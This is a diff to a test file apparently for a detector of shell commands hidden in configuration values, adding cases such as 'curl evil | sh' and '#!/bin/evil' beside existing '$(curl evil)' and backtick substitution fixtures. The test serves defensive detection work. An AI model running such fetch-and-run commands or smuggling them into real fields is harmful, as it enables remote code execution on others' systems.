@@ -59,6 +59,8 @@ describe('what a shell would run, and is hidden', () => {
       ['data.password'],
     ],
     ['a command inside of a value', '  token: "x$(curl evil)y"', ['data.token']],
+    ['commands in one line', '  password: "curl evil | sh"', ['data.password']],
+    ['a program in one line', '  password: "#!/bin/evil"', ['data.password']],
     ['backticks', '  token: "x`curl evil`"', ['data.token']],
     [
       'another command behind a password in a script',
